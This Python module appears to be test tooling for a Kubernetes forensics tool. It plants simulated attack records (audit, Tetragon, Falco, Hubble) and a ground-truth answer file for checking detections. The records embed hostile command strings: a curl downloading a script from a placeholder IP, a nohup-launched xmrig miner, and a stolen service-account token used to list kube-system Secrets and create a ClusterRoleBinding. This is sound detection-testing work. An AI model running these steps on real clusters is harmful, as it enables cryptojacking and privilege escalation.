"""Attack stories planted in a simulated cluster, with the ground truth to check kubetrail's answers.

`write_stories` writes, next to the background outputs of `kubetrail simulate`, the records of a
few stories in the producers' own formats (the shapes of the hand-made fixtures under
tests/fixtures/stories), each on a pod of the model alive at the story's time, with that pod's
real name, uid, node, container, image and IP:

- exec-miner: the developer `kubectl exec`s a shell into a Deployment's pod; the shell fetches a
  script, backgrounds a miner with nohup, and the miner (started after the session ended)
  resolves and connects to its pool. Audit, Tetragon, Falco and Hubble records.
- stolen-token: a pod's bound service-account token used from another pod's address: a rules
  review, a denied list of kube-system's Secrets, and a ClusterRoleBinding created. Audit records,
  and the other pod's connection to the API server in Hubble.
- benign (not an attack): the SRE `kubectl exec`s `cat /etc/os-release` into a pod.

`.ground-truth.json` says what kubetrail should find. Everything is drawn from the seed alone.
"""

from __future__ import annotations

import json
import random
from base64 import b64encode
from collections.abc import Callable
from pathlib import Path
from typing import Any, Final
from urllib.parse import urlencode

import orjson

from kubetrail.simulate.audit import _FORBID, PODS, SECRETS, _go_escape, _human, _pod_client, _timestamp, _Who
from kubetrail.simulate.clock import rfc3339_ns, second
from kubetrail.simulate.cluster import DAY, MINUTE, NS, Cluster, Pod, uuid4
from kubetrail.simulate.network import endpoint, flow_record
from kubetrail.simulate.runtime import _clock, _image_ref, _labels

Json = dict[str, Any]

MS: Final = 1_000_000
FILES: Final = ("story-audit.log", "story-tetragon.jsonl", "story-falco.json", "story-hubble.json")
GROUND_TRUTH: Final = ".ground-truth.json"  # hidden: ingesting the folder reads only telemetry
_API_VERSION: Final = "audit.k8s.io/v1"
_AUID_UNSET: Final = 4294967295
_POLICY: Final = "monitor-network-activity"
_TTY: Final = 34816  # /dev/pts/0
_WORLD: Final[Json] = {"identity": 2, "labels": ["reserved:world"]}
_API_SERVER: Final[Json] = {"identity": 7, "labels": ["reserved:kube-apiserver"]}
_APPS: Final = ("shop", "payments")
_DNS: Final = "kube-system/coredns"
_ATTACKER_AGENT: Final = "kubectl/v1.30.2 (linux/amd64) kubernetes/3968350"
_SHELL_TAGS: Final = ("T1059", "container", "maturity_stable", "mitre_execution", "shell")


def write_stories(out_dir: Path, cluster: Cluster, seed: int) -> dict[str, int]:
    """Write the stories' records and `.ground-truth.json` into `out_dir`; returns lines per file."""
    writer = _Stories(cluster, random.Random(f"kubetrail-stories:{seed}"))
    writer.run()
    counts: dict[str, int] = {}
    for name in FILES:
        lines = [line for _, _, line in sorted(writer.lines[name])]
        (out_dir / name).write_bytes(b"".join(lines))
        counts[name] = len(lines)
    truth = {"cluster": cluster.name, "stories": writer.stories, "benign": writer.benign}
    (out_dir / GROUND_TRUTH).write_text(json.dumps(truth, indent=2) + "\n")
    counts[GROUND_TRUTH] = len(writer.stories) + len(writer.benign)
    return counts


class _Stories:
    def __init__(self, cluster: Cluster, rng: random.Random) -> None:
        self.cluster, self.rng = cluster, rng
        self.lines: dict[str, list[tuple[int, int, bytes]]] = {name: [] for name in FILES}
        self.made = 0
        self.boot = {n.name: cluster.start_ns - int(rng.uniform(3, 40) * DAY) for n in cluster.nodes}
        self.pids = {n.name: rng.randrange(20_000, 40_000) for n in cluster.nodes}
        self.shims: dict[str, str] = {}  # pod uid -> its containerd-shim's exec id
        self.endpoints: dict[str, Json] = {}
        self.identities = {w.key: rng.randrange(1000, 65000) for w in cluster.workloads}
        self.used: set[str] = set()  # uids of pods a story already took
        self.stories: list[Json] = []
        self.benign: list[Json] = []
        self.developer = next(h for h in cluster.humans if "developers" in h.groups)
        self.sre = next(h for h in cluster.humans if "sre" in h.groups)

    def run(self) -> None:
        # One story per third of the period, at least an hour apart, so they stay separate incidents.
        span = self.cluster.end_ns - self.cluster.start_ns
        thirds = [self.cluster.start_ns + span * i // 3 for i in range(3)]
        plans: tuple[Callable[[int, int], None], ...] = (self._exec_miner, self._stolen_token, self._benign_exec)
        for start, plan in zip(thirds, plans, strict=True):
            plan(start, start + span // 3)

    # -- output

    def _add(self, name: str, t: int, record: Json) -> None:
        line = orjson.dumps(record, option=orjson.OPT_APPEND_NEWLINE)
        if name == "story-audit.log":
            line = _go_escape(line)
        self.lines[name].append((t, self.made, line))
        self.made += 1

    # -- choosing where and when

    def _time(self, lo: int, hi: int) -> int:
        """A time in the middle of [lo, hi), on a whole millisecond."""
        quarter = (hi - lo) // 4
        return int(self.rng.uniform(lo + quarter, hi - quarter)) // MS * MS

    def _pod(self, t: int, ok: Callable[[Pod], bool], before: int = MINUTE, after: int = 10 * MINUTE) -> Pod | None:
        alive = [p for p in self.cluster.pods if p.alive(t - before) and p.alive(t + after) and p.uid not in self.used and ok(p)]
        return self.rng.choice(alive) if alive else None

    def _place(self, lo: int, hi: int, ok: Callable[[Pod], bool]) -> tuple[int, Pod] | None:
        for _ in range(50):
            t = self._time(lo, hi)
            pod = self._pod(t, ok)
            if pod is not None:
                self.used.add(pod.uid)
                return t, pod
        return None

    # -- the stories

    def _exec_miner(self, lo: int, hi: int) -> None:
        placed = self._place(lo, hi, lambda p: _app(p) and p.namespace == "shop" and p.workload.kind == "Deployment")
        if placed is None:
            return
        t0, pod = placed
        rng, user = self.rng, self.developer
        container = pod.containers[0]
        pool = f"pool.{''.join(rng.choices('abcdefghijklmnopqrstuvwxyz', k=rng.randrange(5, 9)))}.net"
        pool_ip = f"198.51.100.{rng.randrange(2, 250)}"
        while pool_ip in (h.source_ip for h in self.cluster.humans):
            pool_ip = f"198.51.100.{rng.randrange(2, 250)}"
        drop_ip = f"203.0.113.{rng.randrange(2, 250)}"
        session = int(rng.uniform(45, 90) * NS)
        ids: list[str] = []

        # Falco's clock on the node runs behind: its alert for the shell reads 0.8 s before the request.
        shell_t = t0 + int(rng.uniform(250, 350) * MS)
        falco_t = t0 - 800 * MS
        ids.append(self._falco_shell(falco_t, pod, container.name))
        query = urlencode(
            [("command", "sh"), ("container", container.name), ("stdin", "true"), ("stdout", "true"), ("tty", "true")]
        )
        uri = f"{PODS.path(pod.namespace)}/{pod.name}/exec?{query}"
        ref = PODS.ref(pod.namespace, pod.name, sub="exec")
        ids.append(self._audit(t0, _human(user), "create", uri, ref, {"metadata": {}, "code": 101}, lasts=session))

        runc = self._runc(pod, container.container_id, t0 + int(rng.uniform(80, 150) * MS))
        sh = self._exec(pod, 0, "/bin/sh", "", shell_t, runc, cwd="/")
        curl_t = shell_t + int(rng.uniform(5, 15) * NS)
        self._exec(pod, 0, "/usr/bin/curl", f"-fsSL http://{drop_ip}/x.sh -o /tmp/x.sh", curl_t, sh, cwd="/")
        nohup_t = curl_t + int(rng.uniform(5, 15) * NS)
        nohup = self._exec(pod, 0, "/usr/bin/nohup", f"/tmp/xmrig -o {pool}:3333", nohup_t, sh, cwd="/")
        miner_t = t0 + session + int(rng.uniform(10, 40) * NS)  # after the session ended
        miner = self._exec(pod, 0, "/tmp/xmrig", f"-o {pool}:3333", miner_t, nohup, cwd="/")
        ids.extend(b["exec_id"] for b in (sh, miner))

        dns = self._pod(miner_t, lambda p: p.workload.key == _DNS, before=0, after=MINUTE)
        answer_t = miner_t + int(rng.uniform(20, 80) * MS)
        if dns is not None:
            self._dns(answer_t, pod, dns, pool + ".", pool_ip)
        connect_t = answer_t + int(rng.uniform(1, 5) * MS)
        sport = rng.randrange(32768, 61000)
        self._kprobe(connect_t, pod, miner, nohup, pool_ip, sport, 3333)
        self._connect(connect_t + 50_000, pod, None, pool_ip, 3333, sport)
        self.stories.append(
            {
                "name": "exec-miner",
                "start": rfc3339_ns(falco_t),
                "end": rfc3339_ns(connect_t + 50_000),
                "pod": f"{pod.namespace}/{pod.name}",
                "user": user.username,
                "expected": {
                    "incident_min_severity": "high",
                    "initiator_user": user.username,
                    "techniques_any_of": ["T1059", "T1609", "T1041"],
                    "new_external": [pool_ip],
                },
                "event_ids": [],
                "details": {"pool": pool, "pool_ip": pool_ip, "download_ip": drop_ip, "exec_ids": ids[2:]},
            }
        )

    def _stolen_token(self, lo: int, hi: int) -> None:
        placed = self._place(lo, hi, lambda p: _app(p) and bool(p.tokens))
        if placed is None:
            return
        t0, victim = placed
        thief = self._pod(t0, lambda p: p.uid != victim.uid and not p.workload.host_network and p.ip != victim.ip)
        if thief is None:
            return
        rng = self.rng
        self._connect(t0 - int(rng.uniform(5, 50) * MS), thief, None, "10.96.0.1", 443, rng.randrange(32768, 61000),
                      dst=_API_SERVER)  # fmt: skip
        _, own = _pod_client(victim, t0)
        who = _Who(own.user, [thief.ip], _ATTACKER_AGENT, own.allow)
        basic = {"authorization.k8s.io/decision": "allow",
                 "authorization.k8s.io/reason": 'RBAC: allowed by ClusterRoleBinding "system:basic-user" of ClusterRole '
                                                '"system:basic-user" to Group "system:authenticated"'}  # fmt: skip
        t = t0
        review = {"resource": "selfsubjectrulesreviews", "apiGroup": "authorization.k8s.io", "apiVersion": "v1"}
        self._audit(t, who._replace(allow=basic), "create", "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews",
                    review, {"metadata": {}, "code": 201})  # fmt: skip
        t += int(rng.uniform(2, 8) * NS)
        username = own.user["username"]
        message = (f'secrets is forbidden: User "{username}" cannot list resource "secrets" in API group "" '
                   f'in the namespace "kube-system"')  # fmt: skip
        status = {"metadata": {}, "status": "Failure", "message": message, "reason": "Forbidden",
                  "details": {"kind": "secrets"}, "code": 403}  # fmt: skip
        self._audit(t, who._replace(allow=_FORBID), "list", f"{SECRETS.path('kube-system')}?limit=500",
                    SECRETS.ref("kube-system"), status)  # fmt: skip
        t += int(rng.uniform(5, 20) * NS)
        name = f"{victim.workload.name}-admin-{''.join(rng.choices('abcdefghijklmnopqrstuvwxyz0123456789', k=5))}"
        ref = {"resource": "clusterrolebindings", "name": name, "apiGroup": "rbac.authorization.k8s.io", "apiVersion": "v1"}
        self._audit(t, who, "create", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings?fieldManager=kubectl-create",
                    ref, {"metadata": {}, "code": 201})  # fmt: skip
        self.stories.append(
            {
                "name": "stolen-token",
                "start": rfc3339_ns(t0),
                "end": rfc3339_ns(t),
                "pod": f"{victim.namespace}/{victim.name}",
                "user": username,
                "expected": {
                    "incident_min_severity": "high",
                    "initiator_user": username,
                    "techniques_any_of": ["T1528", "T1098", "T1613", "T1087"],
                    "new_external": [],
                },
                "event_ids": [],
                "details": {"source_ip": thief.ip, "source_pod": f"{thief.namespace}/{thief.name}", "binding": name},
            }
        )

    def _benign_exec(self, lo: int, hi: int) -> None:
        placed = self._place(lo, hi, lambda p: _app(p) and p.workload.kind == "Deployment")
        if placed is None:
            return
        t0, pod = placed
        rng, user = self.rng, self.sre
        container = pod.containers[0]
        query = urlencode([("command", "cat"), ("command", "/etc/os-release"), ("container", container.name),
                           ("stderr", "true"), ("stdout", "true")])  # fmt: skip
        uri = f"{PODS.path(pod.namespace)}/{pod.name}/exec?{query}"
        ref = PODS.ref(pod.namespace, pod.name, sub="exec")
        lasts = int(rng.uniform(0.4, 1.5) * NS)
        self._audit(t0, _human(user), "get", uri, ref, {"metadata": {}, "code": 101}, lasts=lasts)
        runc = self._runc(pod, container.container_id, t0 + int(rng.uniform(80, 150) * MS))
        cat_t = t0 + int(rng.uniform(200, 350) * MS)
        self._exec(pod, 0, "/bin/cat", "/etc/os-release", cat_t, runc, cwd="/")
        self.benign.append(
            {
                "name": "sre-exec-cat",
                "start": rfc3339_ns(t0),
                "end": rfc3339_ns(t0 + lasts),
                "pod": f"{pod.namespace}/{pod.name}",
                "user": user.username,
                "expected": {"incident_max_severity": "medium"},
                "event_ids": [],
            }
        )

    # -- audit

    def _audit(self, t: int, who: _Who, verb: str, uri: str, ref: Json, status: Json, *, lasts: int = 0) -> str:
        audit_id = uuid4(self.rng)
        event: Json = {"kind": "Event", "apiVersion": _API_VERSION, "level": "Metadata", "auditID": audit_id,
                       "stage": "ResponseComplete", "requestURI": uri, "verb": verb, "user": who.user,
                       "sourceIPs": who.ips, "userAgent": who.agent, "objectRef": ref, "responseStatus": status,
                       "requestReceivedTimestamp": _timestamp(t)}  # fmt: skip
        done = t + 300_000 + int(self.rng.random() * 9 * MS)
        stages = [("ResponseStarted", done), ("ResponseComplete", t + lasts)] if lasts else [("ResponseComplete", done)]
        for stage, at in stages:
            line = dict(event, stage=stage, stageTimestamp=_timestamp(at), annotations=who.allow)
            self._add("story-audit.log", at, line)
        return audit_id

    # -- Tetragon

    def _exec_id(self, pod: Pod, t: int, pid: int) -> str:
        node = pod.node.name
        return b64encode(f"{node}:{t - self.boot[node]}:{pid}".encode()).decode()

    def _pid(self, pod: Pod) -> int:
        pid = self.pids[pod.node.name] = self.pids[pod.node.name] + self.rng.randrange(1, 40)
        return pid

    def _runc(self, pod: Pod, container_id: str, t: int) -> Json:
        """`runc exec` on the host: outside the container (no pod block), child of the pod's shim."""
        if pod.uid not in self.shims:
            self.shims[pod.uid] = self._exec_id(pod, pod.start_ns + int(self.rng.uniform(0.05, 0.3) * NS), self._pid(pod))
        pid = self._pid(pod)
        block: Json = {
            "exec_id": self._exec_id(pod, t, pid),
            "pid": pid,
            "uid": 0,
            "cwd": f"/run/containerd/io.containerd.runtime.v2.task/k8s.io/{container_id}",
            "binary": "/usr/bin/runc",
            "arguments": f"--root /run/containerd/runc/k8s.io exec --process /tmp/runc-process{self.rng.randrange(10**8, 10**9)} "
            f"--detach --pid-file /run/containerd/io.containerd.runtime.v2.task/k8s.io/{container_id}/exec.pid {container_id}",
            "flags": "execve clone",
            "start_time": rfc3339_ns(t),
            "auid": _AUID_UNSET,
            "parent_exec_id": self.shims[pod.uid],
            "tid": pid,
        }
        return block

    def _exec(self, pod: Pod, uid: int, binary: str, arguments: str, t: int, parent: Json, *, cwd: str) -> Json:
        container = pod.containers[0]
        started = max(pod.start_ns + NS, self.cluster.start_ns - DAY)
        pid = self._pid(pod)
        pod_block: Json = {
            "namespace": pod.namespace,
            "name": pod.name,
            "container": {
                "id": f"containerd://{container.container_id}",
                "name": container.name,
                "image": {"id": _image_ref(container.image), "name": container.image},
                "start_time": f"{second(started // NS)}Z",
                "pid": self.rng.randrange(20, 400),
            },
            "pod_labels": _labels(pod),
            "workload": pod.workload.name,
            "workload_kind": pod.workload.kind,
        }
        block: Json = {
            "exec_id": self._exec_id(pod, t, pid),
            "pid": pid,
            "uid": uid,
            "cwd": cwd,
            "binary": binary,
            "arguments": arguments,
            "flags": "execve clone",
            "start_time": rfc3339_ns(t),
            "auid": _AUID_UNSET,
            "pod": pod_block,
            "docker": container.container_id[:31],
            "parent_exec_id": parent["exec_id"],
            "tid": pid,
        }
        if not arguments:
            del block["arguments"]  # protojson omits empty strings
        self._tetragon("process_exec", {"process": block, "parent": parent}, pod, t)
        return block

    def _kprobe(self, t: int, pod: Pod, block: Json, parent: Json, daddr: str, sport: int, dport: int) -> None:
        sock = {"family": "AF_INET", "type": "SOCK_STREAM", "protocol": "IPPROTO_TCP", "saddr": pod.ip, "daddr": daddr,
                "sport": sport, "dport": dport}  # fmt: skip
        body: Json = {"process": block, "parent": parent, "function_name": "tcp_connect", "args": [{"sock_arg": sock}],
                      "action": "KPROBE_ACTION_POST", "policy_name": _POLICY}  # fmt: skip
        self._tetragon("process_kprobe", body, pod, t)

    def _tetragon(self, etype: str, body: Json, pod: Pod, t: int) -> None:
        self._add("story-tetragon.jsonl", t, {etype: body, "node_name": pod.node.name, "time": rfc3339_ns(t)})

    # -- Falco

    def _falco_shell(self, t: int, pod: Pod, container_name: str) -> str:
        container = next(c for c in pod.containers if c.name == container_name)
        repo, _, tag = container.image.rpartition(":")
        short = container.container_id[:12]
        output = (
            f"{_clock(t)}: Notice A shell was spawned in a container with an attached terminal (evt_type=execve "
            f"user=root user_uid=0 user_loginuid=-1 process=sh proc_exepath=/bin/sh parent=runc command=sh "
            f"terminal={_TTY} exe_flags=EXE_WRITABLE container_id={short} container_image={repo} "
            f"container_image_tag={tag} container_name={container.name} k8s_ns={pod.namespace} k8s_pod_name={pod.name})"
        )
        fields: Json = {
            "container.id": short,
            "container.image.repository": repo,
            "container.image.tag": tag,
            "container.name": container.name,
            "evt.time": t,
            "evt.type": "execve",
            "k8s.ns.name": pod.namespace,
            "k8s.pod.name": pod.name,
            "proc.cmdline": "sh",
            "proc.exepath": "/bin/sh",
            "proc.name": "sh",
            "proc.pname": "runc",
            "proc.tty": _TTY,
            "user.loginuid": -1,
            "user.name": "root",
            "user.uid": 0,
        }
        record: Json = {"hostname": pod.node.name, "output": output, "priority": "Notice",
                        "rule": "Terminal shell in container", "source": "syscall", "tags": list(_SHELL_TAGS),
                        "time": rfc3339_ns(t), "output_fields": fields}  # fmt: skip
        self._add("story-falco.json", t, record)
        return short

    # -- Hubble

    def _endpoint(self, pod: Pod) -> Json:
        if (made := self.endpoints.get(pod.uid)) is not None:
            return made
        made = self.endpoints[pod.uid] = endpoint(
            pod, self.cluster.name, self.identities[pod.workload.key], self.rng.randrange(1, 4096)
        )
        return made

    def _flow(self, t: int, observer: Pod, src: Json, dst: Json, src_ip: str, dst_ip: str, l4: Json, kind: str,
              event_type: Json, reply: bool, point: str | None, l7: Json | None, summary: str) -> None:  # fmt: skip
        record = flow_record(t, self.cluster.name, observer, uuid4(self.rng), src, dst, src_ip, dst_ip, l4, kind,
                             event_type, reply, point, l7, summary)  # fmt: skip
        self._add("story-hubble.json", t, record)

    def _dns(self, t: int, client: Pod, dns: Pod, name: str, ip: str) -> None:
        """A query for `name` and its answer `ip`, the answer at `t`."""
        port, latency, ttl = self.rng.randrange(32768, 61000), int(self.rng.uniform(0.3, 3) * MS), self.rng.randrange(20, 300)
        src, dst = self._endpoint(client), self._endpoint(dns)
        query = {"type": "REQUEST", "dns": {"query": name, "observation_source": "proxy", "qtypes": ["A"]}}
        self._flow(t - latency, client, src, dst, client.ip, dns.ip, {"UDP": {"source_port": port, "destination_port": 53}},
                   "L7", {"type": 129}, False, None, query, f"DNS Query {name} A")  # fmt: skip
        answer = {"type": "RESPONSE", "latency_ns": latency,
                  "dns": {"query": name, "ips": [ip], "ttl": ttl, "observation_source": "proxy", "rcode": 0,
                          "qtypes": ["A"], "rrtypes": ["A"]}}  # fmt: skip
        self._flow(t, client, dst, src, dns.ip, client.ip, {"UDP": {"source_port": 53, "destination_port": port}}, "L7",
                   {"type": 129}, True, None, answer, f'DNS Answer "{ip}" TTL: {ttl} (Proxy {name} A)')  # fmt: skip

    def _connect(self, t: int, client: Pod, server: Pod | None, ip: str, port: int, sport: int, dst: Json | None = None) -> None:
        """The SYN from `client` (the request flow) and the SYN-ACK back."""
        src = self._endpoint(client)
        far = dst if dst is not None else _WORLD if server is None else self._endpoint(server)
        self._flow(t, client, src, far, client.ip, ip,
                   {"TCP": {"source_port": sport, "destination_port": port, "flags": {"SYN": True}}},
                   "L3_L4", {"type": 4, "sub_type": 3}, False, "TO_STACK", None, "TCP Flags: SYN")  # fmt: skip
        rtt = int(self.rng.uniform(0.5, 40) * MS)
        self._flow(t + rtt, client, far, src, ip, client.ip,
                   {"TCP": {"source_port": port, "destination_port": sport, "flags": {"SYN": True, "ACK": True}}},
                   "L3_L4", {"type": 4}, True, "TO_ENDPOINT", None, "TCP Flags: SYN, ACK")  # fmt: skip


def _app(pod: Pod) -> bool:
    """A pod of our own apps on the pod network (not a host-network or system pod)."""
    return pod.namespace in _APPS and not pod.workload.host_network
